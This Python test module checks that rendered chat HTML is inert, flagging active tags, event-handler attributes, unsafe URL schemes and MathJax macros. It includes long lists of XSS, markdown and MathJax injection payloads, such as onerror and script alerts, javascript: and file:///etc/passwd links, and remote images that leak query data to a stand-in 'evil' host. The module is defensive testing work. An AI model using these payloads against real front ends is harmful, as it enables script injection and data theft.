"""What a front end would get from a reply, checked for anything active.

``problems(html)`` parses a display message's HTML with the standard library's
``html.parser`` and lists every tag outside the allow-list, every ``on*`` or
``style`` attribute, every URL with a scheme other than http(s)/mailto, and
every MathJax macro that makes links, sets styles or loads code and is still
intact outside code (MathJax typesets text outside ``$`` too: ``\\begin{..}``).
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

ALLOWED_TAGS = {
    *("p", "br", "hr", "em", "strong", "del", "s", "code", "pre", "a", "blockquote"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li"),
    *("table", "thead", "tbody", "tr", "th", "td", "span", "div"),
}
ALLOWED_ATTRIBUTES = {"href", "title", "rel", "target", "align", "start"}
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "poster", "data", "background"}
SAFE_SCHEMES = ("http:", "https:", "mailto:")
MACRO = re.compile(
    r"(?<!\\)(?:\\\\)*\\(?:style|class|cssId|href|data|require|bbox|unicode|url|mmlToken|setOptions)"
    r"(?![A-Za-z])"
)
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\ufeff]")


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_code = 0
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"<{tag}>")
        if tag in ("code", "pre"):
            self.in_code += 1
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name == "style" or name not in ALLOWED_ATTRIBUTES:
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES:
                bare = _INVISIBLE.sub("", value).lower()
                scheme = re.match(r"[a-z][a-z0-9+.\-]*:", bare)
                if scheme is None or not scheme.group().startswith(SAFE_SCHEMES):
                    self.problems.append(f"<{tag} {name}={value!r}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag in ("code", "pre"):
            self.in_code -= 1

    def handle_endtag(self, tag: str) -> None:
        if tag in ("code", "pre"):
            self.in_code -= 1

    def handle_data(self, data: str) -> None:
        if self.in_code <= 0:
            self.text.append(data)
        else:
            self.text.append(" ")

    def handle_comment(self, data: str) -> None:
        self.problems.append("<!--")

    def handle_decl(self, decl: str) -> None:
        self.problems.append("<!decl")

    def handle_pi(self, data: str) -> None:
        self.problems.append("<?pi")

    def unknown_decl(self, data: str) -> None:
        self.problems.append("<![CDATA[")


def problems(html: str) -> list[str]:
    """Everything active in ``html`` (empty when it is inert)."""
    checker = _Checker()
    checker.feed(html)
    checker.close()
    text = "".join(checker.text)
    found = checker.problems
    macro = MACRO.search(text)
    if macro is not None:
        found.append("MathJax macro " + macro.group())
    return found


def assert_inert(html: str, context: object = None) -> None:
    found = problems(html)
    assert found == [], (found, context, html)


# Known XSS and markdown tricks; mixed at random and cut anywhere (a stream can stop there).
VECTORS = [
    "<IMG SRC=x oNeRrOr=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    "<a href=javascript:alert(1)>y</a>",
    "<scr<script>ipt>alert(1)</script>",
    "[![x](http://a/img.png)](javascript:alert(1))",
    "<div>\n<img src=x onerror=alert(1)>\n</div>",
    "| a | b |\n|---|---|\n| <img src=x onerror=1> | ![i](http://a/i.png) |",
    "\\<img src=x onerror=alert(1)>",
    "`code` <img src=x onerror=1>",
    "<!----><img src=x onerror=1>",
    "<?php echo 1 ?><img src=x onerror=1>",
    "<![CDATA[ <img src=x onerror=1> ]]>",
    "<!DOCTYPE html><img src=x onerror=1>",
    "[a](data:image/svg+xml,<svg onload=alert(1)>)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "> <img src=x onerror=1>",
    "- <script>alert(1)</script>",
    "    <img src=x onerror=1>",
    "```\n<img>\n```\n<img src=x onerror=1>",
    "$x$ `$` <img src=x onerror=1> `$`",
    "$$\n<img src=x onerror=1>\n$$",
    "\\begin{a} `\\end{a} <img src=x onerror=alert(1)>`",
    '![x](http://a/b.png "t")',
    "![x](<http://a/b c.png>)",
    "[x][1]\n\n[1]: <javascript:alert(1)>",
    "<http://a.com/x?y=<img src=x onerror=1>>",
    "<mailto:a@b.c>",
    "<a@b.c>",
    "*<img src=x onerror=1>*",
    "<img src=x onerror=alert(1)//",
    "<img\nsrc=x\nonerror=alert(1)>",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<style>@import 'http://x/'</style>",
    "![](http://a/i.png)![](http://b/i.png)",
    "[link](http://ok.com) <b onmouseover=alert(1)>x</b>",
    "<base href=http://evil/>",
    "<meta http-equiv=refresh content='0;url=http://evil'>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "&lt;img src=x onerror=1&gt;",
    "<a href='http://ok' onclick='alert(1)'>x</a>",
    "[x](#) <iframe srcdoc='<script>alert(1)</script>'>",
]

# Payloads aimed at markdown renderers and at MathJax (each would run or load something
# if it reached a front end as markup).
PAYLOADS = {
    "img onerror": "look <img src=x onerror=alert(1)> here",
    "script": "<script>alert(document.cookie)</script>",
    "svg onload": "<svg onload=alert(1)>",
    "iframe": '<iframe src="http://evil/"></iframe>',
    "a href javascript": '<a href="javascript:alert(1)" target="_self">click</a>',
    "md link javascript": "[x](javascript:alert(1))",
    "md link mixed case": "[x](JaVaScRiPt:alert(1))",
    "md link leading space": "[x]( javascript:alert(1))",
    "md link entity": "[x](java&#x73;cript:alert(1))",
    "md link named entity colon": "[x](javascript&colon;alert(1))",
    "md link escape": "[x](javascript\\:alert(1))",
    "md link angle tab": "[x](<java\tscript:alert(1)>)",
    "md link vbscript": "[x](vbscript:msgbox(1))",
    "md link data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md link file": "[x](file:///etc/passwd)",
    "md link relative": "[x](/lab/tree/secret.ipynb) [y](#top) [z](//evil.example/)",
    "autolink javascript": "<javascript:alert(1)>",
    "remote image": "![x](http://evil/?q=secret)",
    "reference image": "![x][r]\n\n[r]: http://evil/x.png",
    "collapsed reference image": "![r][]\n\n[R]: http://evil/x.png",
    "shortcut reference image": "![r]\n\n[r]: http://evil/x.png",
    "reference link javascript": "[x][r]\n\n[r]: javascript:alert(1)",
    "angle image with title": '![x](<http://evil/a b.png> "t")',
    "linked image": "[![x](http://evil/a.png)](https://example.com)",
    "nested brackets alt": "![a [b] c](http://evil/a.png)",
    "html comment": "<!-- <img src=x onerror=alert(1)> -->",
    "comment trick": "<!--> <img src=x onerror=alert(1)> -->",
    "style": "<style>body{background:url(http://evil/)}</style>",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "processing instruction": "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "tag over lines": "<img\nsrc=x\nonerror=alert(1)>",
    "attribute with backticks": "<img src=`x` onerror=`alert(1)`>",
    "html block in list": "- item\n<div><img src=x onerror=alert(1)></div>",
    "dangling tag start": "text <im",
    "unfinished image": "![x](http://evil/?q=sec",
    "mathjax style": "$\\style{background:url(http://evil/)}{x}$",
    "mathjax href": "$\\href{javascript:alert(1)}{x}$",
    "mathjax via entity": "$&#92;style{background:url(http://evil/)}{x}$",
    "mathjax outside dollars": "\\begin{equation}\\href{javascript:alert(1)}{x}\\end{equation}",
    "mathjax in display": "$$\n\\require{html}\\class{jp-Dialog}{x}\\cssId{a}{b}\\data{x=1}{y}\n$$",
    "mathjax unicode bbox": "$\\unicode[Comic]{x41}\\bbox[background:url(http://evil/)]{x}$",
    "mathjax escaped backslash": "$\\\\\\href{http://evil/}{x}$",
    "math splits code span": "\\begin{x} `\\end{x} <img src=x onerror=alert(1)>`",
    "math in link title": '[x](http://a "$" onmouseover="alert(1)$")',
    "math in fence info": '```$" onmouseover="alert(1)$\ncode\n```',
    "math over code span": "a $b `c$ <img src=x onerror=alert(1)>` d",
    "table splits code span": "| a | b |\n|---|---|\n| `x | <img src=x onerror=alert(1)>` | y |",
    "fence info with class": '```"><img src=x onerror=alert(1)>\ncode\n```',
    "escaped bang then image": "\\\\![x](http://evil/a.png)",
    "image after bang": "!![x](a)(http://evil/?q=1)",
}
